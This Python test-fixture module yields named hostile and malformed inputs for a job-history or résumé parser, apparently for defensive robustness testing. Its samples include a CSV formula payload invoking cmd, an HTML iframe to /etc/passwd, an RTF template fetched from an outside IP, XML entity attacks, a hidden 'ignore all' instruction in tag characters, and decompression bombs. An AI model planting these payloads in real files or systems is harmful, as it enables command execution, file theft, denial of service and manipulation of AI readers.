"""Hostile and broken texts, tables, markup and pictures, by name."""

import io
import json
import random
import struct
import zlib
from collections.abc import Callable, Iterator
from typing import Final

from PIL import Image

from tests.hostile.packages import CALLING, LAUGHS, OUTSIDE

HEAD: Final = "Employee ID,Job Title,Employer,Start Date\n"


def tables() -> Iterator[tuple[str, bytes]]:
    """CSV job histories."""
    row = "1,Welder,Hull & Sons,2019-01\n"
    yield "csv-formulas", (HEAD + "=1+1,@SUM(A1),+1,-1\n" + "\t=1,\r=2,=cmd|'/c calc'!A1,x\n").encode()
    yield "csv-field-of-ten-megabytes", (HEAD + '1,"' + "x" * 10_000_000 + '",a,2019\n').encode()
    yield "csv-quote-never-ends", (HEAD + '1,"' + row * 20_000).encode()
    yield "csv-thousands-of-columns", (HEAD.strip() + "," * 100_000 + "\n" + row).encode()
    yield "csv-a-million-rows", (HEAD + row * 400_000).encode()
    yield "csv-nul", (HEAD + "1,Wel\x00der,a,2019\n").encode()
    yield (
        "csv-mixed-encodings",
        HEAD.encode() + "1,Café,Müller,2019\n".encode() + "2,Café,Müller,2019\n".encode("cp1252"),
    )
    yield "csv-utf-16", (HEAD + row).encode("utf-16")
    yield "csv-utf-32", (HEAD + row).encode("utf-32")
    yield "csv-dates-of-no-calendar", (HEAD + "1,Cook,Inn,2019-99-99\n2,Cook,Inn,99999999999999\n").encode()
    yield "csv-semicolons-and-tabs", (HEAD.replace(",", ";") + row.replace(",", "\t")).encode()
    yield "csv-only-a-head", HEAD.encode()


def texts() -> Iterator[tuple[str, bytes]]:
    """Plain texts."""
    chance = random.Random(5)  # noqa: S311  (no secret)
    yield "text-one-line-of-five-megabytes", b"word " * 1_000_000
    yield "text-one-word-of-five-megabytes", b"a" * 5_000_000
    yield "text-a-million-lines", b"x\n" * 1_000_000
    yield "text-bullets-of-a-megabyte", "• ".encode() * 300_000
    yield "text-dates-of-a-megabyte", b"2019-2020 " * 100_000
    yield "text-commas-of-a-megabyte", b"Skills: " + b"a, " * 300_000
    yield "text-brackets-of-a-megabyte", b"(" * 1_000_000
    yield "text-at-signs", b"a@" * 300_000 + b"." * 300_000
    yield "text-digits", b"555-01" * 200_000
    yield "text-slashes", b"http://" + b"/a" * 400_000
    yield "text-combining-marks", ("e" + "\u0301" * 500_000).encode()
    yield "text-one-ligature", "\ufdfa".encode() * 200_000
    yield "text-bidi-controls", "\u202eemuser tsenoh nA\u202c\n".encode() * 1000
    yield "text-tag-characters", ("Cook" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all")).encode()
    yield "text-zero-width", "\u200b\u200c\u200d\ufeff".encode() * 100_000
    yield "text-surrogates", b"Cook \xed\xa0\x80\xed\xb0\x80"
    yield "text-overlong-utf-8", b"Cook \xc0\xaf\xe0\x80\xaf"
    yield "text-mixed-encodings", "Café\n".encode() + "Café\n".encode("cp1252") + "Café\n".encode("utf-16-le")
    yield "text-utf-7", b"+ADw-script+AD4-Cook"
    yield "text-utf-16-odd", "Cook".encode("utf-16") + b"\x00"
    yield "text-escape-codes", b"\x1b]0;owned\x07\x1b[2JCook\x1b[31m"
    yield "text-nul-bytes", b"Cook\x00\x00Chef"
    yield "text-form-feeds", b"\f" * 100_000
    yield "text-shift-jis", "調理師".encode("shift-jis") * 20
    yield "text-noise", chance.randbytes(200_000)
    yield "text-zeros", bytes(1_000_000)
    yield "program", b"\x7fELF" + chance.randbytes(5000)
    yield "old-word", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def markup() -> Iterator[tuple[str, bytes]]:
    """HTML, RTF, XML and JSON."""
    yield "html-deep", b"<html>" + b"<div>" * 200_000 + b"Cook"
    yield "html-script", b"<html><script>while(1){}</script><p>Cook</p><img src=http://198.51.100.7/a onerror=x()>"
    yield "html-frames", b"<html><iframe src=file:///etc/passwd></iframe><base href=http://198.51.100.7/><p>Cook"
    yield "html-attributes", b"<html><p " + b"a=1 " * 200_000 + b">Cook</p>"
    yield "html-tables-in-tables", b"<html>" + b"<table><tr><td>" * 20_000 + b"Cook"
    yield "html-entities", b"<html><p>" + b"&#x110000;&#xd800;&nosuch;&#0;" * 10_000
    yield "html-comment-never-ends", b"<html><!--" + b"-" * 1_000_000
    yield "html-style-never-ends", b"<html><style>" + b"a{" * 300_000
    yield "html-charset-lies", b'<html><meta charset="utf-7"><p>+ADw-script+AD4-</p>'
    yield "html-span-of-a-billion", b"<html><table><tr><td colspan=1000000000 rowspan=1000000000>Cook</table>"
    yield "rtf-deep", b"{\\rtf1 " + b"{" * 500_000
    yield "rtf-unbalanced", b"{\\rtf1 Cook" + b"}" * 100_000
    yield "rtf-binary-of-gigabytes", b"{\\rtf1 {\\pict\\bin2147483647 abc}Cook}"
    yield "rtf-odd-unicode", b"{\\rtf1 \\u-99999999? \\u123456789? \\u? \\'zz Cook}"
    yield "rtf-object", b"{\\rtf1{\\object\\objupdate{\\*\\objdata " + b"4d5a" * 50_000 + b"}}Cook}"
    yield "rtf-template-of-the-network", b"{\\rtf1{\\*\\template http://198.51.100.7/a.dotm}Cook}"
    yield "rtf-number-of-a-megabyte", b"{\\rtf1\\fs" + b"9" * 1_000_000 + b" Cook}"
    yield "xml-billion-laughs", LAUGHS + b"]><SkillsPassport>&m;</SkillsPassport>"
    yield "xml-entity-of-a-file", OUTSIDE + b"<SkillsPassport>&x;</SkillsPassport>"
    yield "xml-entity-of-the-network", CALLING + b"<CollegeTranscript/>"
    yield "xml-deep", b"<SkillsPassport>" + b"<a>" * 200_000
    yield "xml-attributes", b"<SkillsPassport " + b" ".join(b'a%d="1"' % n for n in range(50_000)) + b"/>"
    yield "json-deep", b'{"basics": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"
    yield "json-number-of-a-megabyte", b'{"basics": {"name": ' + b"9" * 1_000_000 + b"}}"
    yield "json-not-a-number", b'{"basics": {"name": NaN}, "work": [Infinity, -Infinity]}'
    yield "json-two-of-a-key", b'{"basics": {}, "work": [], "work": [{"name": "Inn"}], "basics": 7}'
    yield (
        "json-wrong-types",
        json.dumps({"basics": [], "work": {"a": 1}, "skills": "cook", "education": [1, None, [[]]]}).encode(),
    )
    yield "json-lone-surrogate", b'{"basics": {"name": "\\ud800"}, "work": [{"position": "\\udfff"}]}'
    yield (
        "json-thousands-of-jobs",
        json.dumps(
            {"basics": {"name": "Ada Quill"}, "work": [{"name": "Inn", "position": "Cook"}] * 50_000}
        ).encode(),
    )
    yield "json-cut", b'{"basics": {"name": "Ada Quill"}, "work": [{"name": '


def pictures() -> Iterator[tuple[str, bytes]]:
    """Pictures, for readers that recognise text."""
    yield "png-of-a-billion-pixels", _png(60_000, 60_000)
    yield "png-no-pixels", _png(0, 0)
    yield "png-cut", _png(200, 200)[:60]
    yield "png-text-bomb", _png(20, 20, b"zTXt", b"a\x00\x00" + zlib.compress(bytes(50_000_000), 9))
    yield "gif-frames", _gif(2000)
    yield "tiff-ring", b"II*\x00\x08\x00\x00\x00" + struct.pack("<H", 0) + struct.pack("<I", 8)
    yield "tiff-of-gigabytes", b"II*\x00\x08\x00\x00\x00" + _tags()
    yield "jpeg-cut", _saved("JPEG")[:300]
    yield "jpeg-noise", b"\xff\xd8\xff\xe0" + random.Random(6).randbytes(20_000)  # noqa: S311
    yield "heic-empty", b"\x00\x00\x00\x18ftypheic" + bytes(12)
    yield "webp-cut", b"RIFF\xff\xff\xff\x7fWEBPVP8 "
    yield "bmp-negative", b"BM" + struct.pack("<IHHIIiiHH", 100, 0, 0, 54, 40, -5, -5, 1, 24) + bytes(60)
    yield "picture-blank", _saved("PNG")


def _png(width: int, height: int, kind: bytes = b"", more: bytes = b"") -> bytes:
    """Give a PNG that says it has this size and holds nearly nothing."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    further = chunk(kind, more) if kind else b""
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + further
        + chunk(b"IDAT", zlib.compress(bytes(1000)))
        + chunk(b"IEND", b"")
    )


def _gif(frames: int) -> bytes:
    buffer = io.BytesIO()
    pages = [Image.new("P", (8, 8), number % 2) for number in range(frames)]
    pages[0].save(buffer, "GIF", save_all=True, append_images=pages[1:])
    return buffer.getvalue()


def _tags() -> bytes:
    """Give the directory of a TIFF that claims two billion pixels a side."""
    entries = {256: 2**31 - 1, 257: 2**31 - 1, 258: 8, 259: 1, 262: 1, 273: 8, 277: 1, 278: 2**31 - 1, 279: 2**32 - 1}
    body = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in entries.items())
    return struct.pack("<H", len(entries)) + body + struct.pack("<I", 0)


def _saved(kind: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (400, 300), "white").save(buffer, kind)
    return buffer.getvalue()


PARTS: Final[tuple[Callable[[], Iterator[tuple[str, bytes]]], ...]] = (tables, texts, markup, pictures)
